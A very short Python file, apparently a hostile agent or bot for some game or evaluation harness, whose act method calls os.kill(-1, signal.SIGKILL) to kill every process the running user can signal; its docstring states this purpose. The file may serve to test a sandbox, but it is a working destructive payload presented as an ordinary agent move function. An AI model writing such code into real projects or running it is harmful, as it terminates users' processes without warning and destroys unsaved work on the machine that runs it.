"""End every process that this user may end."""

import os
import signal


class Hostile:
    def __init__(self, target):
        self.target = target

    def act(self, obs, info):
        os.kill(-1, signal.SIGKILL)
        return 0, 0, 1
